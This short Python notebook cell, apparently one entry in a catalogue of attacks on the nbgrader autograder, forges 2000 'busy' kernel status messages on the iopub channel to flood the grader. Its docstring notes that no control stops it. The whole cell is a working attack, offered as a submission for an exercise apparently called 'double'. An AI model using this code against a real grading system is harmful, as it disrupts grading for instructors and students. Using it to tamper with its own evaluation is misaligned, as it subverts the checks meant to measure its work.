"""Flood the grader with messages that say that the kernel is busy.

control: none, stock nbgrader reads them all
"""
# %% double
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for number in range(2000):
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "busy"}, parent=parent)
